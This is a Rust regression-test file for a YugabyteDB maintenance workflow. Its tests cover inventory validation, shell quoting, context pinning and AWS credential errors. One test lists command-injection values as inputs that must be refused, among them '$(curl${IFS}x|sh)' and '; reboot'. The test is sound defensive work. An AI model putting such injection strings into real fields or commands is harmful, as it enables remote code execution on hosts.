//! Regressions of the `yb-maintenance` workflow and its activities (issue 8): one test per
//! defect, each failing on the code before its fix. The doc comment of each test names the item.

use std::collections::BTreeMap;
use std::path::Path;
use std::time::Duration;

use waymark_activities::elb::{resolve_connection, ElbConnection};
use waymark_activities::k8s::Connection as KubeConnection;
use waymark_activities::yb::yb_admin_command;
use waymark_engine::event::Event;
use waymark_engine::log::EventLog;
use waymark_engine::{Engine, Payload, RunId, RunOutcome};
use waymark_sandbox::read_effects;
use waymark_workflows::inventory::{parse_host_port, Inventory};
use waymark_workflows::maintenance::{abnormal_estate, wait_limits};

use crate::util::{closed_port, sandbox, temp_dir, waymark, DaemonProcess, SandboxProcess};

fn engine() -> Engine {
    waymark_workflows::register(Engine::builder(waymark_engine::memory_log())).build()
}

/// Waits for the run's outcome; the limit is a safety net against a stranded run (a panic in
/// the workflow left it active forever before the fixes), not a timing assertion.
async fn outcome(e: &Engine, run: RunId) -> RunOutcome {
    tokio::time::timeout(Duration::from_secs(180), e.wait(run))
        .await
        .expect("the run never ended: a panic stranded it, or it hangs")
        .expect("wait")
}

fn labels(events: &[Event]) -> Vec<String> {
    events
        .iter()
        .filter_map(|e| match e {
            Event::StepScheduled { label, .. } => Some(label.clone()),
            _ => None,
        })
        .collect()
}

fn sandbox_inventory(dir: &Path) -> Inventory {
    Inventory::load(&dir.join("inventory.toml")).unwrap()
}

/// Runs a `waymark` command to its end off the async runtime (the in-process sandbox serves
/// on this runtime meanwhile); returns (exit code, stdout + stderr).
async fn run_cli(mut command: std::process::Command) -> (Option<i32>, String) {
    let out = tokio::task::spawn_blocking(move || command.output().unwrap())
        .await
        .unwrap();
    (
        out.status.code(),
        format!(
            "{}\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        ),
    )
}

/// The one run of a data directory (no daemon holds it) and its events.
fn only_run(data: &Path) -> Vec<Event> {
    let log = waymark_engine::open_log(data).unwrap();
    let run = log.runs().unwrap()[0];
    log.read(run)
        .unwrap()
        .into_iter()
        .map(|r| r.event)
        .collect()
}

/// The reasons of a run that ended `refused` (issue 12: every check before step 1 refuses).
fn run_refusal(events: &[Event]) -> String {
    events
        .iter()
        .find_map(|e| match e {
            Event::RunRefused { reasons } => Some(reasons.join("; ")),
            _ => None,
        })
        .unwrap_or_else(|| panic!("the run was not refused: {events:#?}"))
}

/// issue 8, item 2: an inventory that names neither `listener_arn` nor `rule_arn` (as the daemon
/// could receive it, unvalidated) fails the run before any change with the key at fault; before
/// the fix it reached `unreachable!` in `traffic_source` at step 1 and the run was stranded.
#[tokio::test]
async fn item2_inventory_without_traffic_source_fails_the_run_instead_of_panicking() {
    let (dir, _sb) = sandbox(10).await;
    let mut inv = sandbox_inventory(dir.path());
    inv.traffic.listener_arn = None;
    inv.traffic.rule_arn = None;
    inv.traffic.listener_arns.clear();
    inv.traffic.rule_arns.clear();
    let err = inv.traffic_sources().expect_err("no traffic source");
    assert!(err.to_string().contains("traffic.listener_arns"), "{err}");
    let before = read_effects(dir.path()).len();
    let e = engine();
    let run = e
        .start_named("yb-maintenance", Payload::encode(&inv).unwrap(), "test")
        .await
        .unwrap();
    let RunOutcome::Failed(why) = outcome(&e, run).await else {
        panic!("the run must fail")
    };
    assert!(
        why.contains("invalid inventory, nothing was changed")
            && why.contains("traffic.listener_arns")
            && why.contains("name every listener (listener_arns) and rule (rule_arns)"),
        "{why}"
    );
    assert_eq!(read_effects(dir.path()).len(), before, "no effect");
}

/// issue 8, item 2: every number of the inventory is bounded, and the error names the key and
/// the range; hostile values (the largest TOML integer) are refused at load.
#[tokio::test]
async fn item2_hostile_numbers_in_the_file_are_refused_naming_key_and_maximum() {
    let (dir, _sb) = sandbox(10).await;
    let file = dir.path().join("inventory.toml");
    let good = std::fs::read_to_string(&file).unwrap();
    let huge = i64::MAX.to_string();
    for (line, key, range) in [
        (
            "node_timeout_secs = 120",
            "gates.node_timeout_secs",
            "1 to 86400",
        ),
        (
            "health_timeout_secs = 120",
            "gates.health_timeout_secs",
            "1 to 86400",
        ),
        (
            "load_balancer_timeout_secs = 300",
            "gates.load_balancer_timeout_secs",
            "1 to 604800",
        ),
        (
            "rollout_timeout_secs = 120",
            "gates.rollout_timeout_secs",
            "1 to 86400",
        ),
        (
            "target_healthy_timeout_secs = 120",
            "gates.target_healthy_timeout_secs",
            "1 to 86400",
        ),
        (
            "min_uptime_seconds = 1",
            "gates.min_uptime_seconds",
            "0 to 86400",
        ),
        ("poll_ms = 150", "gates.poll_ms", "1 to 600000"),
        (
            "retry_initial_ms = 500",
            "gates.retry_initial_ms",
            "0 to 3600000",
        ),
        ("retry_max_ms = 4000", "gates.retry_max_ms", "0 to 86400000"),
        (
            "request_timeout_secs = 10",
            "kubernetes.request_timeout_secs",
            "1 to 3600",
        ),
        (
            "connect_timeout_ms = 5000",
            "ssh.connect_timeout_ms",
            "1 to 600000",
        ),
        (
            "command_timeout_ms = 30000",
            "ssh.command_timeout_ms",
            "1 to 86400000",
        ),
    ] {
        assert!(good.contains(line), "sandbox inventory has {line}");
        let (name, _) = line.split_once(" = ").unwrap();
        let text = good.replace(line, &format!("{name} = {huge}"));
        let msg = Inventory::parse(&file, &text).expect_err(key).to_string();
        assert!(
            msg.contains(key) && msg.contains("out of range") && msg.contains(range),
            "{key}: {msg}"
        );
    }
    let text = good.replace("retry_attempts = 4", "retry_attempts = 4294967295");
    let msg = Inventory::parse(&file, &text).unwrap_err().to_string();
    assert!(
        msg.contains("gates.retry_attempts") && msg.contains("1 to 1000"),
        "{msg}"
    );
    let text = good.replace("port = 5433", "port = 70000");
    let msg = Inventory::parse(&file, &text).unwrap_err().to_string();
    assert!(msg.contains("register.port"), "{msg}");
}

/// issue 8, item 2: a run whose input skipped validation with `u64::MAX` in every gate (what a
/// JSON request can carry) fails before any change instead of overflowing `Duration + MARGIN`,
/// `poll * 10` or `node_timeout_secs * 1000` (a panic that stranded the run); the arithmetic
/// itself saturates.
#[tokio::test]
async fn item2_run_with_u64_max_gates_fails_cleanly_and_the_limits_saturate() {
    let (long, beat) = wait_limits(u64::MAX, u64::MAX);
    assert_eq!(long, Duration::MAX);
    assert!(beat >= Duration::from_millis(u64::MAX), "{beat:?}");
    let (dir, _sb) = sandbox(10).await;
    let mut inv = sandbox_inventory(dir.path());
    inv.gates.node_timeout_secs = u64::MAX;
    inv.gates.health_timeout_secs = u64::MAX;
    inv.gates.load_balancer_timeout_secs = u64::MAX;
    inv.gates.poll_ms = u64::MAX;
    inv.gates.retry_max_ms = u64::MAX;
    inv.gates.retry_attempts = u32::MAX;
    let before = read_effects(dir.path()).len();
    let e = engine();
    let run = e
        .start_named("yb-maintenance", Payload::encode(&inv).unwrap(), "test")
        .await
        .unwrap();
    let RunOutcome::Failed(why) = outcome(&e, run).await else {
        panic!("the run must fail")
    };
    assert!(
        why.contains("invalid inventory, nothing was changed") && why.contains("out of range"),
        "{why}"
    );
    assert_eq!(read_effects(dir.path()).len(), before, "no effect");
}

/// issue 8, item 3: addresses and the `yb-admin` path are held to a strict grammar (the
/// injection `$(curl${IFS}x|sh):7100` passed the old whitespace-only check).
#[test]
fn item3_addresses_and_yb_admin_path_are_validated_strictly() {
    for ok in [
        "10.20.1.11:7100",
        "yb-a-1.prod.internal:7100",
        "[::1]:7100",
        "[fd00::5]",
    ] {
        assert!(parse_host_port(ok).is_ok(), "{ok}");
    }
    assert_eq!(
        parse_host_port("[fd00::5]:2222").unwrap(),
        ("fd00::5".to_owned(), Some(2222))
    );
    for bad in [
        "$(curl${IFS}x|sh):7100",
        "`id`:7100",
        "a;b:7100",
        "host:0",
        "host:65536",
        "host:+80",
        "::1:7100",
        "[::1",
        "[not-v6]:7100",
        "-host:7100",
        "host..x:7100",
        "",
        "h'q:7100",
    ] {
        assert!(parse_host_port(bad).is_err(), "{bad:?} must be refused");
    }
    let path = Path::new("/tmp/inventory.toml");
    let text = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../examples/inventory.toml"),
    )
    .unwrap();
    let injected = text.replacen(
        "master_rpc = \"10.20.1.11:7100\"",
        "master_rpc = \"$(curl${IFS}x|sh):7100\"",
        1,
    );
    let msg = Inventory::parse(path, &injected).unwrap_err().to_string();
    assert!(msg.contains("yugabyte.nodes[0].master_rpc"), "{msg}");
    for bad_admin in [
        "yb-admin",
        "bin/yb-admin",
        "/bin/yb-admin; reboot",
        "/opt/$(id)/yb-admin",
        "/opt/yb admin",
    ] {
        let t = text.replace(
            "yb_admin = \"/home/yugabyte/tserver/bin/yb-admin\"",
            &format!("yb_admin = {bad_admin:?}"),
        );
        let msg = Inventory::parse(path, &t).unwrap_err().to_string();
        assert!(msg.contains("yugabyte.yb_admin"), "{bad_admin}: {msg}");
    }
}

/// issue 8, item 3: the `yb-admin` command line quotes every value it interpolates (and leaves
/// plain values as they are, which the sandbox's host and the demo's faults rely on).
#[test]
fn item3_yb_admin_command_quotes_every_value() {
    assert_eq!(
        yb_admin_command(
            "/home/yugabyte/bin/yb-admin",
            &["yb-a-1:7100".into(), "yb-b-1:7100".into()],
            "get_is_load_balancer_idle"
        ),
        "/home/yugabyte/bin/yb-admin -master_addresses yb-a-1:7100,yb-b-1:7100 get_is_load_balancer_idle"
    );
    assert_eq!(
        yb_admin_command(
            "/opt/yb admin",
            &["$(curl${IFS}x|sh):7100".into()],
            "get_load_move_completion"
        ),
        "'/opt/yb admin' -master_addresses '$(curl${IFS}x|sh):7100' get_load_move_completion"
    );
}

/// issue 8, item 4: `--inventory inventory.toml` (relative, from the inventory's folder) journals
/// absolute `kubeconfig`, `key_file` and `known_hosts` paths, so the daemon (cwd `/`) or a
/// `resume` from elsewhere finds the files.
#[tokio::test]
async fn item4_relative_inventory_path_journals_absolute_paths() {
    let (dir, sb) = sandbox(10).await;
    // Fail the health gate so the run ends quickly, before any change.
    let out = waymark_sandbox::yb::exec(sb.shared(), "yb-a-3", "systemctl stop yb-tserver");
    assert_eq!(out.exit, 0);
    let loaded = Inventory::load(Path::new(&dir.path().join("inventory.toml"))).unwrap();
    // The master reports it DEAD only after the (scaled) unresponsive timeout (issue 11).
    let mut rounds = 0;
    while loaded
        .masters()
        .tservers()
        .await
        .unwrap()
        .iter()
        .any(|t| t.host == "yb-a-3" && t.alive)
    {
        rounds += 1;
        assert!(rounds < 3000, "the master never marked yb-a-3 DEAD");
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
    assert!(loaded.ssh.known_hosts.is_absolute());
    let data = temp_dir();
    let mut command = waymark(data.path());
    command.current_dir(dir.path()).args([
        "run",
        "yb-maintenance",
        "--inventory",
        "inventory.toml",
    ]);
    let (code, output) = run_cli(command).await;
    assert_eq!(
        code,
        Some(1),
        "the run is refused at the node gate\n{output}"
    );
    let events = only_run(data.path());
    let why = run_refusal(&events);
    assert!(why.contains("the cluster fails the node gate"), "{why}");
    let input = events
        .into_iter()
        .find_map(|e| match e {
            Event::RunStarted { input, .. } => Some(input),
            _ => None,
        })
        .unwrap();
    let inv: Inventory = input.decode().unwrap();
    let key_file = inv.ssh.key_file.clone().unwrap();
    let kubeconfig = inv.kubernetes.kubeconfig.clone().unwrap();
    for p in [&inv.ssh.known_hosts, &key_file, &kubeconfig] {
        assert!(p.is_absolute(), "journaled relative: {}", p.display());
        assert!(p.exists(), "{}", p.display());
    }
    assert_eq!(
        kubeconfig.canonicalize().unwrap(),
        dir.path().join("kubeconfig").canonicalize().unwrap()
    );
}

/// Sets the traffic listener's forward weights in the sandbox.
fn set_weights(sb: &waymark_sandbox::Sandbox, listener: &str, by_arn: &BTreeMap<String, i32>) {
    sb.shared().mutate(|st| {
        for l in st.elb.listeners.iter_mut().filter(|l| l.arn == listener) {
            for a in &mut l.default_actions {
                for g in &mut a.target_groups {
                    if let Some(w) = by_arn.get(&g.target_group_arn) {
                        g.weight = *w;
                    }
                }
            }
        }
    });
}

/// issue 8, item 6: a run refuses to start changing an estate left half-switched (traffic
/// 100/0 toward zone A, or `MirrorMaker2` at 0 replicas) by an earlier run: it fails before any
/// change, says what it saw and where to look; before the fix it recorded that state as
/// "before" and "restored" it at the end.
#[tokio::test]
async fn item6_half_switched_estate_is_refused_before_any_change() {
    let pure = abnormal_estate(
        &BTreeMap::from([("a".to_owned(), 100), ("b".to_owned(), 0)]),
        "a",
        "b",
        &BTreeMap::from([("mm2".to_owned(), 0)]),
    );
    assert_eq!(pure.len(), 2, "{pure:?}");
    assert!(abnormal_estate(
        &BTreeMap::from([("a".to_owned(), 0), ("b".to_owned(), 100)]),
        "a",
        "b",
        &BTreeMap::from([("mm2".to_owned(), 2)]),
    )
    .is_empty());

    for case in ["traffic 100/0", "MirrorMaker2 at 0"] {
        let (dir, sb) = sandbox(10).await;
        let inv = sandbox_inventory(dir.path());
        if case == "traffic 100/0" {
            set_weights(
                &sb,
                &inv.traffic.listener_arns[0],
                &BTreeMap::from([
                    (inv.traffic.zone_a_target_group_arn.clone(), 100),
                    (inv.traffic.zone_b_target_group_arn.clone(), 0),
                ]),
            );
        } else {
            sb.shared().mutate(|st| {
                st.k8s
                    .deployments
                    .get_mut("prod/mirrormaker2")
                    .unwrap()
                    .replicas = 0;
            });
        }
        let before = read_effects(dir.path()).len();
        let data = temp_dir();
        let mut command = waymark(data.path());
        command
            .args(["run", "yb-maintenance", "--inventory"])
            .arg(dir.path().join("inventory.toml"));
        let (code, output) = run_cli(command).await;
        assert_eq!(code, Some(1), "{case}: the run must be refused\n{output}");
        let events = only_run(data.path());
        let why = run_refusal(&events);
        assert!(
            why.contains("waymark ls --state needs-operator"),
            "{case}: {why}"
        );
        if case == "traffic 100/0" {
            assert!(
                why.contains("the estate does not look normal, nothing was changed")
                    && why.contains("half-switched")
                    && why.contains("zone A=100 zone B=0"),
                "{case}: {why}"
            );
        } else {
            // Found by the pre-flight (issue 12), before the estate check.
            assert!(
                why.contains("pre-flight MirrorMaker2 prod/mirrormaker2 replicas: 0 replicas"),
                "{case}: {why}"
            );
        }
        assert_eq!(read_effects(dir.path()).len(), before, "{case}: no effect");
        assert!(
            !events.iter().any(|e| matches!(
                e,
                Event::CompensationRegistered { .. }
                    | Event::StepScheduled {
                        compensation: Some(_),
                        ..
                    }
            )),
            "{case}: nothing to compensate"
        );
        assert!(
            !labels(&events).iter().any(|l| l.starts_with("1. switch")),
            "{case}: step 1 never scheduled"
        );
    }
}

/// Rewrites `kubeconfig` so that its current context is `elsewhere`: a cluster on a port where
/// nothing listens.
fn switch_current_context(kubeconfig: &Path) {
    let text = std::fs::read_to_string(kubeconfig).unwrap();
    let elsewhere =
        "- name: elsewhere\n  context:\n    cluster: elsewhere\n    user: sandbox\n    namespace: prod\n";
    let text = text
        .replace(
            "clusters:\n",
            &format!(
                "clusters:\n- name: elsewhere\n  cluster:\n    server: http://127.0.0.1:{}\n",
                closed_port()
            ),
        )
        .replace("contexts:\n", &format!("contexts:\n{elsewhere}"))
        .replace("current-context: sandbox", "current-context: elsewhere");
    assert!(text.contains("current-context: elsewhere"), "{text}");
    std::fs::write(kubeconfig, text).unwrap();
}

/// The events of `run` as the daemon on `data` serves them (`waymark history --output json`).
fn daemon_events(data: &Path, run: &str) -> Vec<Event> {
    let out = waymark(data)
        .args(["history", run, "--output", "json"])
        .output()
        .unwrap();
    let rows: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap_or_default();
    rows.into_iter()
        .map(|r| serde_json::from_value(r["event"].clone()).unwrap())
        .collect()
}

/// The output of the completed step running `activity`.
fn step_output(events: &[Event], activity_name: &str) -> Option<Payload> {
    let step = events.iter().find_map(|e| match e {
        Event::StepScheduled { step, activity, .. } if activity == activity_name => Some(*step),
        _ => None,
    })?;
    events.iter().find_map(|e| match e {
        Event::StepCompleted { step: s, output } if *s == step => Some(output.clone()),
        _ => None,
    })
}

/// issue 8, item 9: with `context` unset, the context is resolved when the run starts and
/// journaled; switching the kubeconfig's current context mid-run does not move later steps to
/// another cluster (before the fix each attempt inferred the context anew: the `MirrorMaker2`
/// steps went to `elsewhere`, failed, and so did their compensations).
#[test]
fn item9_kube_context_is_resolved_at_start_and_kept_when_the_current_context_changes() {
    let named = KubeConnection {
        kubeconfig: Some("/nonexistent/kubeconfig".into()),
        context: Some("pinned".into()),
        request_timeout_secs: None,
    };
    assert_eq!(named.resolved().unwrap(), named, "a named context is kept");
    let conn = ElbConnection::new("us-east-1", None);
    assert_eq!(
        resolve_connection(conn.clone(), Some("prod-admin".into()))
            .profile
            .as_deref(),
        Some("prod-admin")
    );
    assert_eq!(resolve_connection(conn, None).profile, None);

    let dir = temp_dir();
    let sb = SandboxProcess::start(&dir.path().join("estate"), 10);
    let text = std::fs::read_to_string(sb.dir.join("inventory.toml")).unwrap();
    assert!(text.contains("context = \"sandbox\"\n") && text.contains("require_approval = false"));
    let inventory = sb.dir.join("no-context.toml");
    std::fs::write(
        &inventory,
        text.replace("context = \"sandbox\"\n", "")
            .replace("require_approval = false", "require_approval = true"),
    )
    .unwrap();
    let data = dir.path().join("data");
    let _daemon = DaemonProcess::start(&data, &[]);
    let out = waymark(&data)
        .args(["start", "yb-maintenance", "--detach", "--inventory"])
        .arg(&inventory)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let run = String::from_utf8_lossy(&out.stdout).trim().to_owned();
    // Both resolutions and the health gate done: the run waits for the approval.
    let start = std::time::Instant::now();
    let events = loop {
        let events = daemon_events(&data, &run);
        let done = events
            .iter()
            .filter(|e| matches!(e, Event::StepCompleted { .. }))
            .count();
        if done >= 3 {
            break events;
        }
        assert!(
            start.elapsed() < Duration::from_secs(60),
            "run {run} never reached the approval: {events:#?}"
        );
        std::thread::sleep(Duration::from_millis(20));
    };
    let resolved: KubeConnection = step_output(&events, "k8s.resolve_connection")
        .expect("the context was resolved and journaled")
        .decode()
        .unwrap();
    assert_eq!(resolved.context.as_deref(), Some("sandbox"));
    switch_current_context(&sb.dir.join("kubeconfig"));
    let out = waymark(&data)
        .args(["signal", &run, "approve"])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let out = waymark(&data).args(["attach", &run]).output().unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "the run completes on its own cluster\n{}\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    let effects = read_effects(&sb.dir);
    assert_eq!(
        effects
            .iter()
            .filter(|e| e.system == "k8s" && e.target == "prod/mirrormaker2" && e.action == "scale")
            .count(),
        2,
        "MirrorMaker2 scaled down and back on the run's own cluster"
    );
}

/// Answers every HTTP request with `403 Forbidden`, as an instance metadata service that is
/// disabled (or a proxy refusing it) does.
async fn forbidding_imds() -> u16 {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        loop {
            let Ok((mut stream, _)) = listener.accept().await else {
                return;
            };
            tokio::spawn(async move {
                use tokio::io::{AsyncReadExt, AsyncWriteExt};
                let mut buf = [0u8; 4096];
                let _ = stream.read(&mut buf).await;
                let _ = stream
                    .write_all(
                        b"HTTP/1.1 403 Forbidden\r\ncontent-length: 0\r\nconnection: close\r\n\r\n",
                    )
                    .await;
            });
        }
    });
    port
}

/// issue 8, item 17 (activities part): with no AWS credentials anywhere in the chain, the ELB
/// step fails at once (non-retryable) with the cause and what to set, not with a retried
/// "cannot reach ...: failed to load IMDS session token"; whether IMDS does not answer (a
/// laptop) or refuses (IMDS disabled).
#[tokio::test]
async fn item17_no_aws_credentials_is_the_message_and_not_retried() {
    let (dir, _sb) = sandbox(10).await;
    let refusing = forbidding_imds().await;
    for (case, imds) in [
        ("IMDS unreachable", closed_port()),
        ("IMDS refuses", refusing),
    ] {
        let data = temp_dir();
        let nowhere = data.path().join("no-such-aws-file");
        let mut command = waymark(data.path());
        command
            .env_remove("AWS_ACCESS_KEY_ID")
            .env_remove("AWS_SECRET_ACCESS_KEY")
            .env_remove("AWS_SESSION_TOKEN")
            .env_remove("AWS_PROFILE")
            .env_remove("AWS_WEB_IDENTITY_TOKEN_FILE")
            .env_remove("AWS_CONTAINER_CREDENTIALS_RELATIVE_URI")
            .env_remove("AWS_CONTAINER_CREDENTIALS_FULL_URI")
            .env_remove("AWS_EC2_METADATA_DISABLED")
            .env("AWS_SHARED_CREDENTIALS_FILE", &nowhere)
            .env("AWS_CONFIG_FILE", &nowhere)
            .env(
                "AWS_EC2_METADATA_SERVICE_ENDPOINT",
                format!("http://127.0.0.1:{imds}"),
            )
            .args(["run", "yb-maintenance", "--inventory"])
            .arg(dir.path().join("inventory.toml"));
        let (code, output) = run_cli(command).await;
        assert_eq!(code, Some(1), "{case}\n{output}");
        let events = only_run(data.path());
        // Since issue 12 the pre-flight finds it (one attempt, no error to retry) and the run
        // is refused with the cause in each ELB check.
        let retried: Vec<&Event> = events
            .iter()
            .filter(|e| matches!(e, Event::AttemptFailed { .. }))
            .collect();
        assert!(retried.is_empty(), "{case}: nothing retried: {retried:#?}");
        let reasons = run_refusal(&events);
        let elb_checks: Vec<&str> = reasons
            .split("; pre-flight ")
            .filter(|r| r.contains("ELBv2"))
            .collect();
        assert!(!elb_checks.is_empty(), "{case}: {reasons}");
        for error in elb_checks {
            let cause = error
                .find("no AWS credentials found in the default chain")
                .unwrap_or_else(|| panic!("{case}: the cause is not the message: {error}"));
            assert!(
                error.contains("AWS_ACCESS_KEY_ID") && error.contains("AWS_PROFILE"),
                "{case}: {error}"
            );
            assert!(
                error
                    .find("IMDS session token")
                    .is_none_or(|imds| imds > cause),
                "{case}: the transport detail comes after the cause: {error}"
            );
        }
        assert!(
            !labels(&events).iter().any(|l| l.starts_with("1. switch")),
            "{case}: nothing changed"
        );
    }
}
